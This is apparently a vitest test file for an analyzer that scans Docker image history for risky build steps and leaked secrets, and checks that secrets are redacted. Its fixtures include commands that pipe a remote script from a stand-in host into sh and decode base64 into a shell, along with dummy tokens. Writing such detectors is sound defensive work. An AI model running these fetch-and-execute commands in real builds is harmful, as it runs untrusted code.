import { describe, expect, it } from 'vitest';
import imageHistory from '../../../../src/main/analyze/analyzers/image-history';
import { analyze, byRule, type Given } from '../kit';

const history = (...steps: unknown[]): Given => ({
  collector: 'image.history',
  content: steps.map((CreatedBy) => ({ Id: '<missing>', CreatedBy, Size: 1, Comment: '' })),
  target: { kind: 'image', id: `sha256:${'a'.repeat(64)}`, name: 'shop/web:1.4.2' },
});

describe('the history of an image', () => {
  it.each([
    ['image.build-command', '/bin/sh -c curl -fsSL http://x.example/setup.sh | sh'],
    ['image.build-command', 'RUN /bin/sh -c echo aWQ= | base64 -d | sh # buildkit'],
    ['image.build-secret', 'ENV API_TOKEN=abcdefghij'],
    ['image.build-secret', '/bin/sh -c #(nop)  ENV DB_PASSWORD abcdefghij'],
    ['image.build-secret', 'RUN |1 NPM=npm_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa /bin/sh -c npm ci'],
  ])('%s: %s', async (rule, step) => {
    const result = await analyze([history('/bin/sh -c #(nop) CMD ["sh"]', step)], [imageHistory]);
    expect(byRule(result, rule)).toHaveLength(1);
    expect(byRule(result, rule)[0]?.cites).toEqual([{ exhibit: 'E0001', locator: 'json:/1/CreatedBy' }]);
    expect(JSON.stringify(result)).not.toMatch(/abcdefghij|npm_a{36}/);
  });

  it.each([
    '/bin/sh -c apt-get update && apt-get install -y curl',
    'ENV PATH=/usr/bin',
    'ENV TOKEN_FILE=/run/secrets/t',
    'COPY dir:abc in /srv',
  ])('says nothing of %s', async (step) => {
    expect((await analyze([history(step)], [imageHistory])).findings).toEqual([]);
  });

  it('reports what is no history, and steps that are none', async () => {
    const result = await analyze(
      [{ ...history(), content: { message: 'x' } }, history(7, 'curl x | sh'), { ...history(), content: '[' }],
      [imageHistory],
    );
    expect(new Set(result.unreadable.map(({ exhibit }) => exhibit))).toEqual(new Set(['E0001', 'E0002', 'E0003']));
    expect(result.findings).toHaveLength(1);
  });
});
